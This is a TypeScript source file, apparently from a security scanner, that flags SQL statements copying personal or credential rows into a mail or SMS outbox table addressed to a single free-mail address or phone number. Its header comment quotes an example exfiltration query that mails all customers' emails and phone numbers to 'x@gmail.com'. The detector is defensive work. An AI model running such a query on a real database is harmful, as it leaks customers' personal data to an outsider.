/**
 * Rows about people queued as messages to one outside mailbox (R19: `INSERT INTO mail_queue
 * (recipient, subject, body) SELECT 'x@gmail.com', 'export', string_agg(email || ',' || phone, E'\n')
 * FROM customers`): the application's mailer sends them, so the outbox table is the way out, as
 * EXPORT DATA is. Mail to each customer's own address (a column), totals only, or a table of no one
 * stays the application's flow.
 */
import { FREE_MAIL } from '../extract/tool-call/recipients.js';
import { aggregateOnly } from './sql-aggregate-export.js';
import { holdsPersonalData, isCredentialTable } from './sql.js';
import { bareName, topLevelItems, withoutComments } from './sql-text.js';

/** Tables an application's mailer or SMS sender drains: `mail_queue`, `email_outbox`, `outgoing_sms`. */
const OUTBOX_TABLE =
  /^(?:(?:\w+_)?(?:mails?|e_?mails?|sms|texts?|messages?|notifications?)_?(?:queue|outbox|out|jobs?|spool|pending)|(?:\w+_)?outbox|outgoing_\w+|(?:queued|pending|outbound)_(?:mails?|e_?mails?|sms|messages?))$/;
/** Recipient columns. */
const RECIPIENT =
  /^(?:to|recipients?|rcpt|to_(?:address|addr|email|number|phone)|(?:recipient|destination)_\w+|email_to|send_to|address)$/;
const INSERT_SELECT =
  /^\s*insert\s+(?:into\s+)?([\w."`[\]]+)\s*\(([^)]*)\)\s*(select\s+([\s\S]*?)\s+from\s+([\w."`[\]]+)[\s\S]*)$/i;
const PHONE = /^N?'\+?[\d\s().-]{8,20}'$/;
const ADDRESS = /^N?'[^'@\s]+@([a-z0-9-]+(?:\.[a-z0-9-]+)+)'$/i;

/** Why an INSERT ... SELECT queues rows about people to one public mailbox or phone, or undefined. */
export function outboxExport(raw: string): string | undefined {
  if (raw.length > 65536) return undefined;
  const m = INSERT_SELECT.exec(withoutComments(raw).replace(/;\s*$/, ''));
  if (!m || !OUTBOX_TABLE.test(bareName(m[1]!))) return undefined;
  const source = bareName(m[5]!);
  if (!holdsPersonalData(source) && !isCredentialTable(source)) return undefined;
  const cols = topLevelItems(m[2]!).map(bareName);
  const items = topLevelItems(m[4]!).map((v) => v.trim());
  if (cols.length !== items.length) return undefined;
  // One public mailbox, or one phone number, receives them all.
  const to = cols.findIndex(
    (c, i) =>
      RECIPIENT.test(c) && (FREE_MAIL.test(ADDRESS.exec(items[i]!)?.[1] ?? '') || PHONE.test(items[i]!)),
  );
  if (to < 0) return undefined;
  // What the message carries: the items that are not literals (the address, a subject).
  const carried = items.filter((v) => !/^N?'(?:[^']|'')*'$/.test(v)).map((v) => v.replace(/::\s*\w+$/, ''));
  const from = m[3]!.slice(m[3]!.search(/\sfrom\s/i));
  if (carried.length === 0 || aggregateOnly(`SELECT ${carried.join(', ')}${from}`)) return undefined;
  return `rows of ${source} are queued in ${bareName(m[1]!)} as messages to ${items[to]!} alone`;
}
